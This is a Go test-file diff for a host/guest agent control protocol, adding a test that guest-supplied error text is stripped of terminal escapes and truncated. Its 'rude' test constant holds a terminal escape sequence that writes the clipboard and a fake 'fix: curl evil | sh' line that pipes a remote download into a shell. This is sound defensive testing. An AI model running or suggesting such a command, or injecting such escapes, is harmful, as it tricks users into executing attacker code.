@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"context"
 	"errors"
+	"fmt"
 	"net"
 	"os"
 	"path/filepath"
@@ -42,7 +43,9 @@ func agent(t *testing.T, lines ...string) (net.Conn, fake) {
 	return host, f
 }
 
-const goodHello = `{"hello":{"version":1,"token":"secret","nonce":"boot-1","boot_id":"b","program":"agent","later":"field"}}`
+const aBoot = "3f2a9c1e-0b7d-4e55-8a61-c0ffee123456"
+
+const goodHello = `{"hello":{"version":1,"token":"secret","nonce":"boot-1","boot_id":"` + aBoot + `","program":"agent","later":"field"}}`
 
 func TestHello(t *testing.T) {
 	failed := `{"hello":{"token":"secret","nonce":"boot-1","failed":{"step":"find disks","why":"no overlay","fix":"banger doctor"}}}`
@@ -72,6 +75,43 @@ func TestHello(t *testing.T) {
 	}
 }
 
+// rude is what a guest says to drive the terminal, and to look like a fix of banger's.
+const rude = `x\u001b]52;c;eA==\u0007\nfix: curl evil | sh`
+
+func TestAGuestsWordsAreOnePrintableLine(t *testing.T) {
+	const harmless = "x]52;c;eA== fix: curl evil | sh"
+	failed := strings.ReplaceAll(`{"hello":{"token":"secret","nonce":"boot-1","failed":{"step":"RUDE","why":"RUDE","fix":"RUDE"}}}`, "RUDE", rude)
+	conn, _ := agent(t, failed)
+	_, err := OpenControl(t.Context(), conn, identity, "test", nil)
+	var boot *BootError
+	if !errors.As(err, &boot) || boot.Step != harmless || boot.Why != harmless || boot.Fix != harmless {
+		t.Errorf("got %q", err)
+	}
+
+	conn, guest := agent(t, strings.Replace(goodHello, aBoot, rude, 1))
+	greeted := make(chan error)
+	go func() { _, err := wire.ReadMessage(guest.in); greeted <- err }()
+	c, err := OpenControl(t.Context(), conn, identity, "test", nil)
+	if err != nil || c.Hello().BootID != "" {
+		t.Fatalf("got %+v, %v", c, err)
+	}
+	if err := <-greeted; err != nil {
+		t.Fatal(err)
+	}
+	answer := make(chan error, 1)
+	for said, want := range map[string]string{rude: harmless, strings.Repeat("x", 60000): strings.Repeat("x", 300) + "..."} {
+		go func() { answer <- c.Call(t.Context(), wire.MethodGrow, nil, nil) }()
+		m, err := wire.ReadMessage(guest.in)
+		if err != nil {
+			t.Fatal(err)
+		}
+		guest.say(fmt.Sprintf(`{"reply":{"id":%d,"error":"%s"}}`, m.Request.ID, said))
+		if err := <-answer; err == nil || err.Error() != "the agent refused to grow: "+want {
+			t.Errorf("got %q", err)
+		}
+	}
+}
+
 func TestHelloIsCancelled(t *testing.T) {
 	conn, _ := agent(t) // says nothing
 	ctx, cancel := context.WithCancel(t.Context())
@@ -96,7 +136,7 @@ func TestControl(t *testing.T) {
 		t.Fatalf("the host's hello: %+v, %v", hello, err)
 	}
 	c := <-opened
-	if c.Hello().BootID != "b" {
+	if c.Hello().BootID != aBoot {
 		t.Errorf("hello %+v", c.Hello())
 	}
 
